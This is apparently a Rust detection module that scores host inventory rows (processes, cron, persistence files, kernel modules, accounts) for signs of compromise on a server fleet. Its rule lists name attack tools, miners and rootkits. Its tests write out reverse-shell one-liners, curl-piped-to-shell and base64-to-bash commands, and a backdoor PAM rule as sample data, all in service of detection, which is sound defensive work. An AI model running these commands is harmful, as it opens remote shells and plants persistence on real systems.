//! What makes a row security-relevant, beyond being rare.
//!
//! Each indicator has a multiplier; a row's severity is the largest multiplier
//! of its indicators, raised by a fifth for each further indicator (at most
//! 10). Indicators are read from the row's original values, never from the
//! normalised ones.
//!
//! | indicator | × |
//! |---|---|
//! | a second account with uid 0 | 8 |
//! | reverse-shell pattern (`/dev/tcp/`, `nc -e`, `socat exec:`, `bash -i`, scripted sockets) | 6 |
//! | cryptominer pool URL (`stratum+tcp://`) | 6 |
//! | executable in a world-writable directory (`/tmp`, `/var/tmp`, `/dev/shm`) | 5 |
//! | downloads and runs code (`curl`/`wget` piped to a shell or made executable) | 5 |
//! | decodes and runs hidden code (`base64 -d` piped to a shell) | 5 |
//! | known attack tool or miner name | 5 |
//! | executable deleted after start | 4 |
//! | kernel-thread name with an executable file (masquerading) | 4 |
//! | a security or logging agent is not running (for missing rows) | 4 |
//! | known rootkit module name | 3 |
//! | hidden file or directory in a path | 2.5 |
//! | command line refers to a world-writable directory | 2 |
//! | a system binary differs (`/bin`, `/sbin`, `/usr/bin`, `/usr/sbin`, `/lib*`) | 2 |
//! | a system account with a login shell | 2 |
//! | grants login as root | 1.5 |
//! | runs at every boot (`@reboot`) | 1.5 |
//! | a module the kernel loads on demand (netfilter, filesystems, bridges) | 0.4 |
//! | a kernel thread (no executable, no command line) | 0.2 |
//!
//! ## Relevance
//!
//! Beside its severity, a row has a [`Relevance`] that decides what prevalence
//! and cohorts may do to it:
//!
//! - **attack**: a pattern of attack, every indicator above of × 3 or more
//!   except a deleted executable (package upgrades leave those), `pam_exec`
//!   and passwordless sudo (sensitive), and executables among the temporary
//!   files (programs unpack helpers there); and a system binary that differs
//!   from the checksum its package recorded. A cohort never
//!   explains it, and it makes its hosts outliers at any prevalence below most of
//!   the fleet;
//! - **sensitive**: a change a deploy can make but an attacker wants too: a
//!   changed system binary, any SSH key (a root key most), an account that can
//!   log in, a kernel module that is neither a hardware driver nor loaded on
//!   demand, a web server or interpreter listening, PAM, sudoers, dynamic-linker
//!   and SSH start-up files. Only a cohort that a label explains (a launch
//!   template version, an image, an instance type, a launch window) explains it;
//!   otherwise it counts like an attack pattern;
//! - **none**: everything else; any cohort explains it.

use diffy_core::{FindingKind, Row};

use crate::profile::QueryKind;

const TMP_DIRS: &[&str] = &["/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/", "/dev/mqueue/"];
const SYSTEM_DIRS: &[&str] =
    &["/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/", "/lib/", "/lib64/", "/usr/lib/", "/usr/lib64/", "/usr/libexec/"];
const TOOLS: &[&str] = &[
    "xmrig",
    "minerd",
    "cpuminer",
    "kinsing",
    "kdevtmpfsi",
    "xmr-stak",
    "ethminer",
    "nbminer",
    "t-rex",
    "meterpreter",
    "mettle",
    "sliver",
    "chisel",
    "frpc",
    "ngrok",
    "linpeas",
    "pspy",
    "tsunami",
    "kaiten",
    "mirai",
    "gafgyt",
    "watchbog",
    "sysrv",
    "kthreaddi",
    "dbused",
    "pnscan",
    "masscan",
    "zmap",
    "hydra",
    "linux-exploit-suggester",
    "beacon",
    "cobaltstrike",
    "merlin",
    "pupy",
    "reptile",
    "diamorphine",
];
const ROOTKITS: &[&str] = &[
    "diamorphine",
    "reptile",
    "suterusu",
    "adore",
    "knark",
    "kbeast",
    "rootkit",
    "enyelkm",
    "azazel",
    "bdvl",
    "khook",
    "puszek",
];
const ON_DEMAND_MODULE_PREFIXES: &[&str] = &[
    "xt_",
    "nf_",
    "nft_",
    "ip_tables",
    "ip6_tables",
    "iptable_",
    "ip6table_",
    "ebtable",
    "ebt_",
    "ip_set",
    "nfnetlink",
    "x_tables",
    "bridge",
    "br_netfilter",
    "veth",
    "overlay",
    "tun",
    "loop",
    "binfmt_misc",
    "isofs",
    "udf",
    "nls_",
    "vfat",
    "fat",
    "llc",
    "stp",
    "bonding",
    "8021q",
    "garp",
    "mrp",
    "dummy",
    "tls",
    "ipt_",
    "ip6t_",
    "nf_conntrack",
];
const AGENTS: &[&str] = &[
    "auditd",
    "osqueryd",
    "falcon-sensor",
    "falcond",
    "amazon-ssm-agent",
    "ssm-agent-worker",
    "wazuh-agentd",
    "ossec-agentd",
    "sysmon",
    "splunkd",
    "filebeat",
    "auditbeat",
    "elastic-agent",
    "cbagentd",
    "sentinelone",
    "ds_agent",
    "qualys-cloud-ag",
    "rsyslogd",
    "syslog-ng",
    "systemd-journal",
    "fluent-bit",
    "td-agent",
];
const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "csh", "tcsh", "ash", "fish"];

/// What prevalence and cohorts may do to a row (see the module documentation).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Relevance {
    /// Nothing stands out: any cohort explains it.
    #[default]
    None,
    /// A change a deploy can make and an attacker wants too: explained only by
    /// a cohort that a label explains.
    Sensitive,
    /// A pattern of attack: never explained by a cohort.
    Attack,
}

/// A row's security relevance: a multiplier and what justifies it.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Assessment {
    /// 1.0 when nothing stands out.
    pub severity: f64,
    /// Human-readable reasons, strongest first.
    pub indicators: Vec<String>,
    /// What prevalence and cohorts may do to it.
    pub relevance: Relevance,
}

impl Assessment {
    /// Whether the row counts at any prevalence below most of the fleet
    /// (attack or sensitive).
    pub fn strong(&self) -> bool {
        self.relevance >= Relevance::Sensitive
    }
}

struct Collector {
    found: Vec<(f64, String)>,
    relevance: Relevance,
}

impl Collector {
    /// An indicator; of × 3 or more, a pattern of attack.
    fn add(&mut self, mult: f64, text: impl Into<String>) {
        let relevance = if mult >= 3.0 { Relevance::Attack } else { Relevance::None };
        self.push(mult, text.into(), relevance);
    }

    /// An indicator that does not make the row strong, whatever its multiplier.
    fn weak(&mut self, mult: f64, text: impl Into<String>) {
        self.push(mult, text.into(), Relevance::None);
    }

    /// An indicator of a sensitive change (see [`Relevance::Sensitive`]).
    fn sensitive(&mut self, mult: f64, text: impl Into<String>) {
        self.push(mult, text.into(), Relevance::Sensitive);
    }

    fn push(&mut self, mult: f64, text: String, relevance: Relevance) {
        self.relevance = self.relevance.max(relevance);
        if !self.found.iter().any(|(_, t)| *t == text) {
            self.found.push((mult, text));
        }
    }

    fn finish(mut self) -> Assessment {
        if self.found.is_empty() {
            return Assessment { severity: 1.0, indicators: Vec::new(), relevance: self.relevance };
        }
        self.found.sort_by(|a, b| b.0.total_cmp(&a.0));
        let max = self.found[0].0;
        let severity = if max >= 1.0 { (max * (1.0 + 0.2 * (self.found.len() - 1) as f64)).min(10.0) } else { max };
        Assessment { severity, indicators: self.found.into_iter().map(|(_, t)| t).collect(), relevance: self.relevance }
    }
}

/// Kernel modules that differ with the hardware (network, storage and
/// hypervisor drivers): instance types differ by these.
const HARDWARE_MODULES: &[&str] = &[
    "ena",
    "efa",
    "gve",
    "ixgbevf",
    "ixgbe",
    "igb",
    "igbvf",
    "i40e",
    "iavf",
    "ice",
    "e1000",
    "e1000e",
    "mlx4_core",
    "mlx4_en",
    "mlx5_core",
    "mlx5_ib",
    "vmxnet3",
    "vmw_pvscsi",
    "vmw_balloon",
    "vmw_vmci",
    "hv_netvsc",
    "hv_storvsc",
    "hv_vmbus",
    "hv_utils",
    "hv_balloon",
    "xen_netfront",
    "xen_blkfront",
    "xen_privcmd",
    "virtio_net",
    "virtio_blk",
    "virtio_scsi",
    "virtio_pci",
    "virtio_balloon",
    "virtio_console",
    "virtio_rng",
    "nvme",
    "nvme_core",
    "ahci",
    "libahci",
    "sd_mod",
    "sr_mod",
    "cdrom",
    "intel_rapl_msr",
    "intel_rapl_common",
    "rapl",
    "kvm",
    "kvm_intel",
    "kvm_amd",
    "ccp",
    "amd64_edac",
    "edac_core",
    "edac_mce_amd",
    "nfit",
    "libnvdimm",
    "i2c_piix4",
    "ata_piix",
    "pata_acpi",
];

/// Programs that serve requests or run code: listening, they are a way in.
const SERVERS_AND_INTERPRETERS: &[&str] = &[
    "php", "php-fpm", "php-cgi", "python", "python2", "python3", "perl", "ruby", "node", "nodejs", "bash", "sh",
    "dash", "busybox", "nginx", "apache2", "httpd", "lighttpd", "caddy",
];

fn server_or_interpreter(name: &str) -> Option<&'static str> {
    let n = name.to_ascii_lowercase();
    // `php8.2`, `php-fpm8.2`, `python3.11`: a version suffix is the same program.
    let stem = n.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    SERVERS_AND_INTERPRETERS.iter().copied().find(|p| *p == stem || *p == n)
}

fn get<'a>(row: &'a Row, col: &str) -> &'a str {
    row.get(col).map(String::as_str).unwrap_or("")
}

fn tmp_dir_of(path: &str) -> Option<&'static str> {
    TMP_DIRS.iter().find(|d| path.starts_with(**d)).map(|d| d.trim_end_matches('/'))
}

fn mentions_tmp(text: &str) -> Option<&'static str> {
    TMP_DIRS.iter().find(|d| text.contains(**d)).map(|d| d.trim_end_matches('/'))
}

fn has_hidden_component(path: &str) -> bool {
    path.split('/').any(|c| c.len() > 1 && c.starts_with('.') && c != ".." && !c.starts_with("./"))
}

fn basename(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// Patterns of commands that give an attacker a shell, fetch and run code, or
/// decode hidden code.
fn command_patterns(text: &str, c: &mut Collector) {
    if text.is_empty() {
        return;
    }
    let t = text.to_ascii_lowercase();
    // Quotes, parentheses and backticks wrap commands (`sh -c "curl …"`,
    // `$(wget …)`): they separate words too.
    let words: Vec<&str> = t
        .split(|ch: char| ch.is_whitespace() || matches!(ch, ';' | '|' | '&' | '"' | '\'' | '(' | ')' | '`' | '$'))
        .filter(|w| !w.is_empty())
        .collect();
    let first = words.first().map(|w| basename(w)).unwrap_or("");
    let has_word = |w: &str| words.iter().any(|x| basename(x) == w);
    let reverse = t.contains("/dev/tcp/")
        || t.contains("/dev/udp/")
        || ((has_word("nc") || has_word("ncat") || has_word("netcat"))
            && (words.contains(&"-e") || words.contains(&"-c") || t.contains("mkfifo")))
        || (has_word("socat") && (t.contains("exec:") || t.contains("system:")))
        || (SHELLS.contains(&first) && words.get(1) == Some(&"-i") && words.len() <= 3)
        || (words.iter().map(|w| basename(w)).any(|w| {
            w.starts_with("python") || w.starts_with("perl") || w.starts_with("ruby") || w.starts_with("php")
        }) && (t.contains("socket") || t.contains("fsockopen") || t.contains("pty.spawn")))
        || (t.contains("0<&") && t.contains("exec"))
        || (has_word("telnet") && t.contains("| /bin/sh"));
    if reverse {
        c.add(6.0, "reverse-shell pattern");
    }
    if t.contains("stratum+tcp://") || t.contains("stratum+ssl://") {
        c.add(6.0, "cryptominer pool URL");
    }
    let fetches = has_word("curl") || has_word("wget") || t.contains("fetch ") || t.contains("lwp-download");
    let runs = t.contains("| sh")
        || t.contains("|sh")
        || t.contains("| bash")
        || t.contains("|bash")
        || t.contains("| /bin/sh")
        || t.contains("| /bin/bash")
        || t.contains("| python")
        || t.contains("| perl")
        || t.contains("chmod +x")
        || t.contains("chmod 7")
        || t.contains("sh -c \"$(")
        || t.contains("bash -c \"$(");
    if fetches && runs {
        c.add(5.0, "downloads and runs code");
    }
    if (t.contains("base64 -d") || t.contains("base64 --decode"))
        && (t.contains("| sh")
            || t.contains("| bash")
            || t.contains("|sh")
            || t.contains("|bash")
            || t.contains("eval"))
    {
        c.add(5.0, "decodes and runs hidden code");
    }
    for w in &words {
        let b = basename(w);
        if let Some(tool) = TOOLS.iter().find(|tool| b == **tool || (tool.len() >= 6 && b.starts_with(**tool))) {
            c.add(5.0, format!("known attack tool or miner name ({tool})"));
            break;
        }
    }
    if let Some(dir) = mentions_tmp(text) {
        c.add(2.0, format!("command refers to a world-writable directory ({dir})"));
    }
    if words.iter().any(|w| w.starts_with('/') && has_hidden_component(w)) {
        c.add(2.5, "hidden file or directory in a path");
    }
}

fn executable_path(path: &str, c: &mut Collector) {
    if path.is_empty() {
        return;
    }
    if let Some(dir) = tmp_dir_of(path) {
        c.add(5.0, format!("executable in a world-writable directory ({dir})"));
    }
    if path.ends_with(" (deleted)") {
        // Package upgrades leave these behind until a restart: severe alone, not a pattern.
        c.weak(4.0, "executable deleted after it started");
    }
    if has_hidden_component(path) {
        c.add(2.5, "hidden file or directory in a path");
    }
    let b = basename(path).to_ascii_lowercase();
    if let Some(tool) = TOOLS.iter().find(|tool| b == **tool || (tool.len() >= 6 && b.starts_with(**tool))) {
        c.add(5.0, format!("known attack tool or miner name ({tool})"));
    }
}

/// A file where persistence lives: what it runs, what it loads, what it grants.
fn persistence(row: &Row, c: &mut Collector) {
    let path = get(row, "path");
    let target = get(row, "target");
    // Contents come with line breaks as `\n`: read them line by line.
    let content = get(row, "content").replace("\\n", "\n");
    for line in content.lines() {
        let l = line.trim();
        if l.starts_with('#') || l.starts_with("//") || l.is_empty() {
            continue;
        }
        command_patterns(l, c);
        let low = l.to_ascii_lowercase();
        if low.contains("pam_exec") {
            c.sensitive(4.0, "pam_exec runs a program at every login");
        }
        if low.contains("pam_succeed_if") && low.contains("uid >= 0") {
            c.add(6.0, "a PAM rule that lets every account in (pam_succeed_if uid >= 0)");
        }
        if low.contains("nopasswd") && low.contains("all") && (path.contains("sudoers") || low.contains("all=(")) {
            c.sensitive(3.0, "passwordless sudo for everything");
        }
        if low.contains("ld_preload=") || low.contains("ld_audit=") || low.contains("ld_library_path=") {
            c.add(4.0, "sets a dynamic-linker variable (LD_PRELOAD, LD_AUDIT, LD_LIBRARY_PATH)");
        }
        if (path == "/etc/ld.so.preload" || path.starts_with("/etc/ld.so.conf")) && mentions_tmp(l).is_some() {
            c.add(6.0, "a preload library in a world-writable directory");
        }
        if low.contains("cap_setuid") || low.contains("cap_sys_admin") {
            c.add(3.0, "grants a capability that amounts to root");
        }
    }
    const GATES: &[(&str, &str)] = &[
        ("/etc/pam.d/", "a PAM rule (who may log in, and what runs when they do)"),
        ("/etc/security/", "a PAM rule (who may log in, and what runs when they do)"),
        ("/etc/sudoers", "a sudoers rule (who may become root)"),
        ("/etc/ld.so.preload", "the dynamic linker's preload list"),
        ("/etc/ld.so.conf", "the dynamic linker's search path"),
        ("/etc/ssh/sshrc", "runs at every SSH login"),
        ("/etc/ssh/sshd_config", "the SSH server's configuration"),
    ];
    if let Some((_, what)) = GATES.iter().find(|(p, _)| path.starts_with(p)) {
        c.sensitive(1.0, *what);
    } else if path.ends_with("/.ssh/rc") {
        c.sensitive(1.0, "runs at every SSH login");
    }
    if target == "/dev/null" && path.contains("history") {
        c.add(3.0, "shell history sent to /dev/null");
    }
    if content.lines().any(|l| {
        let l = l.trim();
        l.starts_with("unset HISTFILE")
            || l.contains("HISTFILE=/dev/null")
            || l.contains("HISTSIZE=0")
            || l.contains("set +o history")
    }) {
        c.add(3.0, "disables shell history");
    }
    if path == "/etc/ld.so.preload" && !content.trim().is_empty() {
        c.add(3.0, "preloads a library into every process");
    }
    if let Some(dir) = tmp_dir_of(target) {
        c.add(5.0, format!("points into a world-writable directory ({dir})"));
    }
    // Start-up files are hidden by name (.bashrc): only a target is judged.
    if has_hidden_component(target) {
        c.add(2.5, "hidden file or directory in a path");
    }
}

/// Whether the row's own package disowns it: a file hash that fails the
/// checksum its package recorded. Such a value is never the usual one.
pub fn disowned(kind: QueryKind, row: &Row) -> bool {
    kind == QueryKind::FileHashes && get(row, "package_check") == "mismatch"
        || kind == QueryKind::PackageIntegrity
            && get(row, "attribute") != "c"
            && get(row, "flags").as_bytes().get(2) == Some(&b'5')
}

/// Assesses a row of query `kind` reported as a finding of `finding`.
pub fn assess(kind: QueryKind, row: &Row, finding: FindingKind) -> Assessment {
    let mut c = Collector { found: Vec::new(), relevance: Relevance::None };
    if kind == QueryKind::Processes && get(row, "path").is_empty() && get(row, "cmdline").is_empty() {
        // A kernel thread (no executable, no command line): workers come and
        // go with load; their presence or absence says little.
        return Assessment { severity: 0.2, indicators: Vec::new(), relevance: Relevance::None };
    }
    if matches!(finding, FindingKind::Missing | FindingKind::Removed) {
        if kind == QueryKind::Processes {
            let name = get(row, "name");
            let path = basename(get(row, "path"));
            if AGENTS.iter().any(|a| name.starts_with(a) || path == *a) {
                c.add(4.0, "a security or logging agent is not running here");
            }
        }
        return c.finish();
    }
    match kind {
        QueryKind::Processes => {
            let path = get(row, "path");
            executable_path(path, &mut c);
            command_patterns(get(row, "cmdline"), &mut c);
            let name = get(row, "name");
            let tool_name = name.to_ascii_lowercase();
            if TOOLS.iter().any(|t| tool_name == *t) {
                c.add(5.0, format!("known attack tool or miner name ({name})"));
            }
            let kthread_like = ["kworker", "kthreadd", "ksoftirqd", "kswapd", "migration/", "rcu_", "watchdog/"]
                .iter()
                .any(|k| name.trim_start_matches('[').starts_with(k));
            if kthread_like && !path.is_empty() {
                c.add(4.0, "kernel-thread name with an executable file (masquerading)");
            }
            // A system daemon's name on an executable elsewhere.
            const DAEMONS: &[&str] = &[
                "sshd",
                "systemd",
                "cron",
                "crond",
                "rsyslogd",
                "dbus-daemon",
                "agetty",
                "systemd-udevd",
                "udevd",
                "polkitd",
                "containerd",
                "dockerd",
                "snapd",
                "atd",
                "chronyd",
                "ntpd",
                "nginx",
                "apache2",
                "httpd",
            ];
            if !path.is_empty()
                && DAEMONS.contains(&name)
                && basename(path.trim_end_matches(" (deleted)")) != name
                && !SYSTEM_DIRS.iter().any(|d| path.starts_with(d))
            {
                c.add(4.0, format!("a system daemon's name ({name}) on an executable elsewhere (masquerading)"));
            }
        }
        QueryKind::ListeningPorts => {
            executable_path(get(row, "path"), &mut c);
            let name = get(row, "name").to_ascii_lowercase();
            if ["nc", "ncat", "netcat", "socat"].contains(&name.as_str()) {
                c.add(4.0, format!("listener is {name}"));
            }
            let program = basename(get(row, "path"));
            if let Some(p) = server_or_interpreter(&name).or_else(|| server_or_interpreter(program)) {
                c.sensitive(1.5, format!("a web server or interpreter listening ({p})"));
            }
        }
        QueryKind::Crontab => {
            command_patterns(get(row, "command"), &mut c);
            if get(row, "event") == "@reboot" {
                c.add(1.5, "runs at every boot (@reboot)");
            }
        }
        QueryKind::KernelModules => {
            let name = get(row, "name").to_ascii_lowercase();
            if ROOTKITS.iter().any(|r| name.contains(r)) {
                c.add(3.0, "known rootkit module name");
            } else if ON_DEMAND_MODULE_PREFIXES.iter().any(|p| name.starts_with(p)) {
                c.add(0.4, "a module the kernel loads on demand (netfilter, filesystems, bridges)");
            } else if !HARDWARE_MODULES.contains(&name.as_str()) {
                c.sensitive(1.0, "code loaded into the kernel (not a hardware driver)");
            }
        }
        QueryKind::Users => {
            let uid = get(row, "uid");
            let user = get(row, "username");
            if uid == "0" && user != "root" {
                c.add(8.0, "a second account with uid 0");
            }
            let shell = basename(get(row, "shell"));
            if let Ok(n) = uid.parse::<u32>() {
                if n > 0 && n < 1000 && SHELLS.contains(&shell) && user != "sync" {
                    c.sensitive(2.0, "a system account with a login shell");
                } else if n >= 1000 && SHELLS.contains(&shell) {
                    c.sensitive(1.0, "an account that can log in");
                }
            }
            if tmp_dir_of(&format!("{}/", get(row, "directory"))).is_some() {
                c.add(4.0, "home directory in a world-writable directory");
            }
        }
        QueryKind::AuthorizedKeys => {
            if get(row, "uid") == "0" || get(row, "username") == "root" || get(row, "key_file").starts_with("/root/") {
                c.sensitive(1.5, "grants login as root");
            } else {
                c.sensitive(1.0, format!("grants SSH login as {}", get(row, "username")));
            }
            command_patterns(get(row, "options"), &mut c);
        }
        QueryKind::FileHashes => {
            let path = get(row, "path");
            let check = get(row, "package_check");
            if check == "mismatch" {
                c.add(5.0, "differs from the checksum its package recorded (replaced after installation)");
            } else if matches!(finding, FindingKind::Changed | FindingKind::Added)
                && SYSTEM_DIRS.iter().any(|d| path.starts_with(d))
            {
                if check == "ok" {
                    // Another version of its package: what a deploy or an upgrade does.
                    c.weak(2.0, "a system binary differs (its package's checksum matches: another version)");
                } else {
                    c.sensitive(2.0, "a system binary differs");
                }
            }
            executable_path(path, &mut c);
        }
        QueryKind::SuidBin => {
            let path = get(row, "path");
            executable_path(path, &mut c);
            if path.starts_with("/home/") || path.starts_with("/root/") {
                c.add(4.0, "setuid binary in a home directory");
            }
        }
        QueryKind::StartupItems => {
            executable_path(get(row, "path"), &mut c);
            command_patterns(get(row, "path"), &mut c);
        }
        QueryKind::ShellHistory => {}
        QueryKind::Persistence => persistence(row, &mut c),
        QueryKind::LoadedCode => {
            let value = get(row, "value");
            if get(row, "kind") == "environment" {
                c.add(
                    4.0,
                    "a dynamic-linker variable in a process environment (LD_PRELOAD, LD_AUDIT, LD_LIBRARY_PATH)",
                );
                if let Some(dir) = mentions_tmp(value) {
                    c.add(5.0, format!("loads code from a world-writable directory ({dir})"));
                }
            } else {
                executable_path(value, &mut c);
            }
        }
        QueryKind::FileCapabilities => {
            let path = get(row, "path");
            let caps = get(row, "capabilities").to_ascii_lowercase();
            const ROOTISH: &[&str] = &[
                "cap_setuid",
                "cap_setgid",
                "cap_sys_admin",
                "cap_dac_override",
                "cap_dac_read_search",
                "cap_sys_ptrace",
                "cap_sys_module",
                "cap_chown",
                "cap_fowner",
            ];
            if let Some(cap) = ROOTISH.iter().find(|c| caps.contains(**c)) {
                c.add(3.0, format!("a capability that amounts to root ({cap})"));
                let b = basename(path);
                let interpreter =
                    ["python", "perl", "ruby", "node", "php", "lua", "bash", "dash", "zsh", "tar", "vim", "gdb"]
                        .iter()
                        .any(|i| b.starts_with(i))
                        || ["sh", "env", "find", "awk", "busybox"].contains(&b);
                if interpreter {
                    c.add(6.0, format!("{cap} on an interpreter or a tool that runs commands ({b})"));
                }
            }
            executable_path(path, &mut c);
        }
        QueryKind::TempFiles => {
            let path = get(row, "path");
            let mode = u32::from_str_radix(get(row, "mode"), 8).unwrap_or(0);
            if get(row, "kind") == "file" && mode & 0o111 != 0 {
                // Programs unpack helpers into /tmp (JNA, installers): severe
                // alone, not a pattern until something runs it.
                let mut inner = Collector { found: Vec::new(), relevance: Relevance::None };
                executable_path(path, &mut inner);
                for (m, t) in inner.found {
                    c.weak(m, t);
                }
            } else if has_hidden_component(path) {
                c.add(2.5, "hidden file or directory in a path");
            }
            if mode & 0o6000 != 0 {
                c.add(5.0, "setuid or setgid file in a world-writable directory");
            }
        }
        QueryKind::HiddenProcesses => {
            c.add(6.0, "hidden from the /proc listing (a rootkit hides it)");
            executable_path(get(row, "path"), &mut c);
        }
        QueryKind::PackageIntegrity => {
            let path = get(row, "path");
            let flags = get(row, "flags");
            let config = get(row, "attribute") == "c";
            // dpkg and rpm: the third flag is the digest, `M` the mode, `U`/`G` the owner.
            let digest = flags.len() == 9 && flags.as_bytes()[2] == b'5';
            if flags == "missing" {
                c.sensitive(1.0, "a file its package installed is missing");
            } else if config {
                c.sensitive(1.0, "a configuration file differs from the one its package installed");
            } else if digest {
                c.add(5.0, "differs from the checksum its package recorded (replaced after installation)");
            }
            if !config && flags.len() == 9 && (flags.contains('M') || flags.contains('U') || flags.contains('G')) {
                c.sensitive(2.0, "the mode or owner of a packaged file changed");
            }
            executable_path(path, &mut c);
        }
        QueryKind::Shadow => {
            if get(row, "password_state") == "empty" {
                c.add(5.0, "an account without a password");
            }
        }
        QueryKind::Other => {
            for v in row.values() {
                if v.starts_with('/') && !v.contains(char::is_whitespace) {
                    executable_path(v, &mut c);
                } else {
                    command_patterns(v, &mut c);
                }
            }
        }
    }
    c.finish()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn row(pairs: &[(&str, &str)]) -> Row {
        pairs.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect()
    }

    fn sev(kind: QueryKind, pairs: &[(&str, &str)]) -> f64 {
        assess(kind, &row(pairs), FindingKind::Rare).severity
    }

    #[test]
    fn a_daemons_name_on_another_executable_is_masquerading() {
        let m = |name: &str, path: &str| {
            assess(QueryKind::Processes, &row(&[("name", name), ("path", path), ("cmdline", name)]), FindingKind::Rare)
        };
        assert!(m("sshd", "/var/tmp/.x/agent").indicators.iter().any(|i| i.contains("masquerading")));
        assert!(m("sshd", "/usr/sbin/sshd").indicators.is_empty());
        assert!(m("cron", "/opt/cron/cron").indicators.is_empty(), "its own name");
    }

    #[test]
    fn persistence_files_are_read_for_what_they_run() {
        let p = |path: &str, target: &str, content: &str| {
            assess(
                QueryKind::Persistence,
                &row(&[("path", path), ("kind", "file"), ("target", target), ("content", content)]),
                FindingKind::Rare,
            )
        };
        let unit = p(
            "/etc/systemd/system/x.service",
            "",
            r#"[Service]\nExecStart=/bin/bash -c "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"\n"#,
        );
        assert!(unit.indicators.contains(&"reverse-shell pattern".to_string()), "{unit:?}");
        let pre = p("/etc/ld.so.preload", "", r"/dev/shm/.libaudit.so\n");
        assert!(pre.indicators.iter().any(|i| i.contains("world-writable")), "{pre:?}");
        assert!(pre.severity >= 6.0);
        let pam = p("/etc/pam.d/sshd", "", r"auth sufficient pam_succeed_if.so uid >= 0 quiet\n@include common-auth\n");
        assert!(pam.indicators[0].contains("pam_succeed_if"), "{pam:?}");
        let sudo = p("/etc/sudoers.d/90-x", "", r"www-data ALL=(ALL) NOPASSWD: ALL\n");
        assert!(sudo.indicators.iter().any(|i| i.contains("passwordless sudo")), "{sudo:?}");
        let link = p("/etc/rc2.d/S99x", "/dev/shm/.x/run", "");
        assert!(link.indicators.iter().any(|i| i.contains("points into a world-writable")), "{link:?}");
        let cron = p(
            "/etc/cron.d/x",
            "",
            r#"@reboot root /usr/bin/perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'\n"#,
        );
        assert!(cron.indicators.contains(&"reverse-shell pattern".to_string()), "an interpreter one-liner: {cron:?}");
        let init = p("/etc/init.d/x", "", r#"#!/bin/sh\nnohup sh -c "curl -fsSL http://198.51.100.77/n | sh" &\n"#);
        assert!(init.indicators.contains(&"downloads and runs code".to_string()), "{init:?}");
        let plain = p("/etc/profile.d/locale.sh", "", r"export LANG=C.UTF-8\n");
        assert_eq!(plain.severity, 1.0, "{plain:?}");
    }

    #[test]
    fn packaged_files_that_differ() {
        use Relevance::*;
        let a = |pairs: &[(&str, &str)]| assess(QueryKind::PackageIntegrity, &row(pairs), FindingKind::Rare);
        let replaced = a(&[("path", "/usr/bin/ls"), ("flags", "??5??????"), ("attribute", ""), ("manager", "dpkg")]);
        assert!(replaced.severity >= 5.0 && replaced.relevance == Attack, "{replaced:?}");
        let rpm = a(&[("path", "/usr/sbin/sshd"), ("flags", "S.5......"), ("attribute", ""), ("manager", "rpm")]);
        assert_eq!(rpm.relevance, Attack, "rpm's flags too");
        let config = a(&[("path", "/etc/issue"), ("flags", "??5??????"), ("attribute", "c"), ("manager", "dpkg")]);
        assert!(config.severity < 2.0 && config.relevance == Sensitive, "an edited configuration file: {config:?}");
        let gone = a(&[("path", "/usr/share/doc/x"), ("flags", "missing"), ("attribute", ""), ("manager", "dpkg")]);
        assert_eq!((gone.severity, gone.relevance), (1.0, Sensitive));
        let mode = a(&[("path", "/usr/bin/find"), ("flags", ".M......."), ("attribute", ""), ("manager", "rpm")]);
        assert!(mode.severity >= 2.0 && mode.relevance == Sensitive, "{mode:?}");
        let r = |pairs: &[(&str, &str)]| row(pairs);
        assert!(disowned(QueryKind::PackageIntegrity, &r(&[("flags", "??5??????"), ("attribute", "")])));
        assert!(!disowned(QueryKind::PackageIntegrity, &r(&[("flags", "??5??????"), ("attribute", "c")])));
    }

    #[test]
    fn reverse_shells() {
        for cmd in [
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            "nc -e /bin/sh 203.0.113.9 4444",
            "python3 -c import socket,subprocess,os;s=socket.socket()",
            "socat tcp:203.0.113.9:4444 exec:/bin/bash,pty",
            "sh -i",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
        ] {
            assert!(sev(QueryKind::Processes, &[("cmdline", cmd), ("name", "x")]) >= 6.0, "{cmd}");
        }
        for benign in
            ["/usr/sbin/sshd -D", "-bash", "nginx: worker process", "/usr/bin/python3 /usr/bin/unattended-upgrade"]
        {
            assert_eq!(sev(QueryKind::Processes, &[("cmdline", benign), ("path", "/usr/sbin/x")]), 1.0, "{benign}");
        }
    }

    #[test]
    fn cron_and_paths() {
        assert!(sev(QueryKind::Crontab, &[("command", "curl -fsSL http://198.51.100.7/x.sh | sh")]) >= 5.0);
        assert!(sev(QueryKind::Crontab, &[("command", "wget -q -O- http://x/y|bash")]) >= 5.0);
        assert!(sev(QueryKind::Crontab, &[("command", "echo Y3VybCBldmls | base64 -d | bash")]) >= 5.0);
        assert_eq!(sev(QueryKind::Crontab, &[("command", "root cd / && run-parts --report /etc/cron.hourly")]), 1.0);
        assert!(sev(QueryKind::ListeningPorts, &[("path", "/tmp/.x/srv"), ("port", "4444")]) >= 5.0);
        assert!(sev(QueryKind::Processes, &[("path", "/dev/shm/[kworker]"), ("name", "kworker/0:2")]) >= 5.0);
    }

    #[test]
    fn accounts_keys_modules_binaries() {
        assert!(sev(QueryKind::Users, &[("username", "toor"), ("uid", "0"), ("shell", "/bin/bash")]) >= 8.0);
        assert_eq!(sev(QueryKind::Users, &[("username", "root"), ("uid", "0"), ("shell", "/bin/bash")]), 1.0);
        assert_eq!(sev(QueryKind::AuthorizedKeys, &[("uid", "0"), ("key_file", "/root/.ssh/authorized_keys")]), 1.5);
        assert!(sev(QueryKind::KernelModules, &[("name", "diamorphine")]) >= 3.0);
        assert!(sev(QueryKind::KernelModules, &[("name", "xt_conntrack")]) < 1.0);
        assert_eq!(sev(QueryKind::Processes, &[("name", "kworker/0:1"), ("path", ""), ("cmdline", "")]), 0.2);
        let changed = assess(QueryKind::FileHashes, &row(&[("path", "/usr/bin/sudo")]), FindingKind::Changed);
        assert_eq!(changed.severity, 2.0);
